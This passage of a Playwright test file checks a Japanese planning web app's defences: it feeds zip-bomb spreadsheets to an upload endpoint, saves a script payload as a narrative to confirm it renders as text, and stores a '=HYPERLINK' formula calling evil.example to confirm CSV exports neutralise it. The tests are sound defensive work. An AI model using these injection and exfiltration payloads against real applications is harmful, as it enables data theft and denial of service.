    ['a sheet that says 1 kB and unpacks to 300 MB', xlsxBomb(300, { lie: true })],
  ];
  let peakRss = serverRssMb(server);
  for (const [label, bomb] of bombs) {
    expect(bomb.length, label).toBeLessThan(2 * MB);
    // /api/health is asked every 100 ms while the upload is read: it must keep answering.
    let uploading = true;
    let slowestHealth = 0;
    const health = (async () => {
      while (uploading) {
        const t0 = Date.now();
        const res = await fetch(`${BASE}/api/health`);
        expect(res.status).toBe(200);
        slowestHealth = Math.max(slowestHealth, Date.now() - t0);
        peakRss = Math.max(peakRss, serverRssMb(server));
        await new Promise((r) => setTimeout(r, 100));
      }
    })();
    const t0 = Date.now();
    const res = await api.post('/api/years/2025/actuals/upload', {
      multipart: {
        file: { name: 'actuals.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', buffer: bomb },
      },
    });
    const took = Date.now() - t0;
    uploading = false;
    await health;
    peakRss = Math.max(peakRss, serverRssMb(server));
    const json = (await res.json()) as { ok?: boolean; code?: string; message?: string };
    expect(res.status(), label).toBe(413);
    expect(json.code, label).toBe('too_large_unpacked');
    expect(json.message, label).toMatch(JAPANESE);
    expect(took, `${label}: refused in ${took} ms`).toBeLessThan(2000);
    expect(slowestHealth, `${label}: /api/health answered within ${slowestHealth} ms`).toBeLessThan(2000);
    console.log(
      `bad-input: ${label} (${(bomb.length / 1024).toFixed(0)} kB) refused in ${took} ms; slowest /api/health ${slowestHealth} ms`,
    );
  }
  expect(peakRss, `server RSS peaked at ${peakRss.toFixed(0)} MB`).toBeLessThan(600);
  console.log(`bad-input: server RSS peak ${peakRss.toFixed(0)} MB during the bombs`);
  expect(dataChecksum()).toEqual(before);
  await api.dispose();
});

async function savedNarrative(api: APIRequestContext, id: number, narrative: string) {
  const save = listBuiltActions().find((a) => a.name === 'saveAssessment')!;
  const r = await callAction(api, save.id, [{ sectionId: id, baseVersion: assessmentVersion(id), narrative, rating: null }], { path: '/' });
  expect(actionResult(r.body), r.body.slice(0, 300)).toMatchObject({ ok: true });
}

async function expectInert(browser: Browser, path: string, check: (page: import('@playwright/test').Page) => Promise<void>) {
  const context = await browser.newContext({ storageState: authFile('admin') });
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.goto(path);
  await check(page);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  // The markup is text: no element was made from it.
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  expect(dialogs).toEqual([]);
  await context.close();
}

test('a script payload saved as a narrative renders as text on the section page and in the report', async ({ browser }) => {
  // 広報活動 (総務部, FY2025): a section no other spec reads.
  const id = sectionId('init.common.pr', 2025);
  const original =
    one<{ narrative: string } | undefined>('SELECT narrative FROM self_assessments WHERE section_id = ?', id)?.narrative ?? '';
  const api = await request.newContext({ baseURL: BASE, storageState: authFile('admin') });
  const text = `広報の取組。${SCRIPT}\n次の段落 &amp; <b>太字ではない</b>`;
  await savedNarrative(api, id, text);
  expect(one<{ narrative: string }>('SELECT narrative FROM self_assessments WHERE section_id = ?', id).narrative).toBe(text);
  try {
    await expectInert(browser, `/years/2025/sections/${id}`, async (page) => {
      await expect(page.getByLabel('自己評価の本文')).toHaveValue(text);
      const preview = page.getByTestId('report-preview').getByTestId('narrative');
      await expect(preview).toContainText(SCRIPT);
      await expect(preview).toContainText('<b>太字ではない</b>');
      await expect(preview).toContainText('&amp;');
    });
    await expectInert(browser, '/years/2025/report', async (page) => {
      await expect(page.getByText(SCRIPT).first()).toBeVisible();
      await expect(page.getByText('<b>太字ではない</b>').first()).toBeVisible();
    });
  } finally {
    // Put the section back as it was (a later version with the old text).
    await savedNarrative(api, id, original);
    await api.dispose();
  }
  expect(one<{ narrative: string }>('SELECT narrative FROM self_assessments WHERE section_id = ?', id).narrative).toBe(original);
});

test('text that starts like a formula is written to every CSV as text, not as a formula', async () => {
  const api = await request.newContext({ baseURL: BASE, storageState: authFile('admin') });
  const byName = new Map(listBuiltActions().map((a) => [a.name, a.id]));
  const payload = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
  const save = await callAction(api, byName.get('saveFinancialLine')!, [
    { planId: planId(2025), fiscalYear: 2025, name: payload, sectionId: null, priorAmount: '' },
  ]);
  const saved = actionResult(save.body);
  expect(saved?.ok, save.body.slice(0, 300)).toBe(true);
  const lineId = (saved!.data as { id: number }).id;
  try {
    for (const url of ['/years/2025/report.csv', '/api/years/2025/actuals/csv']) {
      const res = await api.get(url);
      expect(res.status(), url).toBe(200);
      const csv = await res.text();
      // No cell anywhere starts with a formula character (a cell starts the line or follows a comma).
      expect(csv, url).not.toMatch(/(^|[\r\n,])"?[=+@]/);
      if (url.endsWith('report.csv')) expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""詳細"")"`);
    }
  } finally {
    const del = await callAction(api, byName.get('removeFinancialLine')!, [{ id: lineId }]);
    expect(actionResult(del.body)?.ok, del.body.slice(0, 300)).toBe(true);
    await api.dispose();
  }
});
